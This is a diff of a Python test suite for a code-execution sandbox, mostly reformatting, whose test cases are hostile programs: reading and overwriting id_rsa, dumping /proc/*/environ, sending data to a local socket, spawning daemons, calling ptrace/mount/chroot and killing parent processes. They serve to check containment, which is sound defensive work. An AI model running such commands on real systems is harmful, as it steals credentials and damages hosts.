@@ -60,19 +60,22 @@ except PermissionError:
 """
 
 CASES = {
-    "socket": HOOK_OFF + """
+    "socket": HOOK_OFF
+    + """
 import socket
 s = socket.create_connection(('127.0.0.1', {port}), timeout=1)
 s.sendall(b'exfiltrated')
 print('CONNECTED')
 """,
-    "subprocess": HOOK_OFF + """
+    "subprocess": HOOK_OFF
+    + """
 import subprocess
 r = subprocess.run(['/bin/sh', '-c', 'echo pwn > {dir}/pwned_sh; cat {dir}/id_rsa; '
                     'cat /proc/*/environ; echo pwn >> {dir}/id_rsa'], capture_output=True)
 print(r.stdout, r.stderr)
 """,
-    "ctypes": HOOK_OFF + """
+    "ctypes": HOOK_OFF
+    + """
 import ctypes, os
 libc = ctypes.CDLL(None)
 print('open new', libc.open(b'{dir}/pwned_ctypes', os.O_WRONLY | os.O_CREAT, 0o644))
@@ -84,7 +87,8 @@ if fd >= 0:
     print(buf.raw[:max(n, 0)])
     libc.write(fd, b'OVERWRITTEN', 11)
 """,
-    "files": HOOK_OFF + """
+    "files": HOOK_OFF
+    + """
 import os
 for path, text in (('{dir}/pwned_py', 'x'), ('{dir}/id_rsa', 'OVERWRITTEN')):
     try:
@@ -101,7 +105,8 @@ try:
 except OSError as e:
     print(type(e).__name__)
 """,
-    "environ_and_proc": HOOK_OFF + """
+    "environ_and_proc": HOOK_OFF
+    + """
 import os
 print(dict(os.environ))
 print('ppid', os.getppid())
@@ -114,7 +119,8 @@ for pid in sorted(os.listdir('/proc') if os.path.isdir('/proc') else []):
         except OSError as e:
             print(pid, leaf, type(e).__name__)
 """,
-    "daemon": HOOK_OFF + """
+    "daemon": HOOK_OFF
+    + """
 import os, time
 if os.fork() == 0:
     os.setsid()
@@ -124,7 +130,8 @@ if os.fork() == 0:
 time.sleep(0.3)
 print('DAEMON_STARTED')
 """,
-    "kernel_surface": HOOK_OFF + """
+    "kernel_surface": HOOK_OFF
+    + """
 import ctypes, os
 libc = ctypes.CDLL(None, use_errno=True)
 print('unshare', libc.unshare(0x10000000 | 0x20000))  # a new user + mount namespace
@@ -132,7 +139,8 @@ print('ptrace', libc.ptrace(16, os.getppid(), 0, 0))  # PTRACE_ATTACH to the boo
 print('mount', libc.mount(b'none', b'/tmp', b'tmpfs', 0, None))
 print('chroot', libc.chroot(b'/tmp'))
 """,
-    "kill_parents": HOOK_OFF + """
+    "kill_parents": HOOK_OFF
+    + """
 import ctypes, os
 libc = ctypes.CDLL(None)
 for pid in (os.getppid(), 1, -1):
@@ -223,8 +231,9 @@ def _daemons():
 
 def _runner_source(d, port, process_too=False):
     cases = {k: v.format(dir=d, port=port, daemon=DAEMON) for k, v in CASES.items()}
-    return RUNNER.format(repo=str(REPO), sandbox_py=str(SANDBOX_PY), cases=json.dumps(cases),
-                         process_too=process_too)
+    return RUNNER.format(
+        repo=str(REPO), sandbox_py=str(SANDBOX_PY), cases=json.dumps(cases), process_too=process_too
+    )
 
 
 def _assert_contained(out, d, listener):
@@ -247,8 +256,11 @@ def _assert_contained(out, d, listener):
     for call in ("unshare", "ptrace", "mount", "chroot"):
         assert f"{call} -1" in results["kernel_surface"][1], results["kernel_surface"]
     # The pid namespace shows none of the host's processes.
-    pids = {line.split()[0] for line in results["environ_and_proc"][1].splitlines()
-            if line.split() and line.split()[0].isdigit()}
+    pids = {
+        line.split()[0]
+        for line in results["environ_and_proc"][1].splitlines()
+        if line.split() and line.split()[0].isdigit()
+    }
     assert len(pids) <= 6, pids
 
 
@@ -267,6 +279,7 @@ def test_hostile_corpus_as_this_user(listener, monkeypatch):
         g = {}
         import contextlib
         import io
+
         buf = io.StringIO()
         with contextlib.redirect_stdout(buf):
             try:
@@ -301,18 +314,30 @@ def test_hostile_corpus_as_unprivileged_user(listener):
         pytest.skip(prefix)
     d = _host_dir(uid)
     try:
-        env = {"PATH": "/usr/bin:/bin", "HF_TOKEN": SECRET, "LANG": "C.UTF-8",
-               "PYTHONDONTWRITEBYTECODE": "1"}
-        r = subprocess.run([*prefix, "-B", "-c", _runner_source(d, listener.port, True),
-                            "MARK-7d2f"],
-                           capture_output=True, text=True, env=env, cwd="/", timeout=120)
+        env = {
+            "PATH": "/usr/bin:/bin",
+            "HF_TOKEN": SECRET,
+            "LANG": "C.UTF-8",
+            "PYTHONDONTWRITEBYTECODE": "1",
+        }
+        r = subprocess.run(
+            [*prefix, "-B", "-c", _runner_source(d, listener.port, True), "MARK-7d2f"],
+            capture_output=True,
+            text=True,
+            env=env,
+            cwd="/",
+            timeout=120,
+        )
         assert r.returncode == 0, r.stderr
         out = json.loads(r.stdout.strip().splitlines()[-1])
         if "refused" in out:
             userns = Path("/proc/sys/kernel/unprivileged_userns_clone")
-            pytest.skip("the kernel does not allow unprivileged user namespaces here ("
-                        + (f"{userns}={userns.read_text().strip()}; " if userns.exists() else "")
-                        + out["refused"] + ")")
+            pytest.skip(
+                "the kernel does not allow unprivileged user namespaces here ("
+                + (f"{userns}={userns.read_text().strip()}; " if userns.exists() else "")
+                + out["refused"]
+                + ")"
+            )
         assert out["mode"] == "user_namespace"
         _assert_contained(out, d, listener)
         # Opt-in process mode has no boundary, but the launcher's environment is empty and the
@@ -337,28 +362,37 @@ def test_no_boundary_refuses_unless_allowed(monkeypatch):
     assert sandbox.resolve_isolation("auto", allow_unisolated=True) == Isolation.PROCESS
     with pytest.raises(ConfigError):
         sandbox.resolve_isolation("user_namespace")
-    r = sandbox.run_python("def f():\n    return 1\n", tests="assert f() == 1",
-                           allow_unisolated=True, timeout_s=3.0)
+    r = sandbox.run_python(
+        "def f():\n    return 1\n", tests="assert f() == 1", allow_unisolated=True, timeout_s=3.0
+    )
     assert r.passed, r
 
 
-@pytest.mark.skipif(os.geteuid() != 0, reason="root only: the program runs as a sandbox uid "
-                    "(the unprivileged case is checked in the test above)")
+@pytest.mark.skipif(
+    os.geteuid() != 0,
+    reason="root only: the program runs as a sandbox uid "
+    "(the unprivileged case is checked in the test above)",
+)
 def test_process_mode_as_root_hides_secrets_and_kills_daemons():
     """Opt-in ``process`` mode (no kernel boundary) as root: the program runs as a sandbox
     uid, so a root process's environment is unreadable, and its daemons die at teardown."""
     trainer = subprocess.Popen(["sleep", "30"], env={"HF_TOKEN": SECRET})
     try:
-        r = sandbox.run_python(CASES["environ_and_proc"], isolation="process",
-                               allow_unisolated=True, timeout_s=4.0)
+        r = sandbox.run_python(
+            CASES["environ_and_proc"], isolation="process", allow_unisolated=True, timeout_s=4.0
+        )
     finally:
         trainer.kill()
         trainer.wait()
     assert r.passed, r
     assert f"{trainer.pid} environ PermissionError" in r.stdout
     assert SECRET not in r.stdout + r.stderr
-    r = sandbox.run_python(CASES["daemon"].format(daemon=DAEMON), isolation="process",
-                           allow_unisolated=True, timeout_s=4.0)
+    r = sandbox.run_python(
+        CASES["daemon"].format(daemon=DAEMON),
+        isolation="process",
+        allow_unisolated=True,
+        timeout_s=4.0,
+    )
     assert "DAEMON_STARTED" in r.stdout, r
     time.sleep(0.3)
     assert _daemons() == []
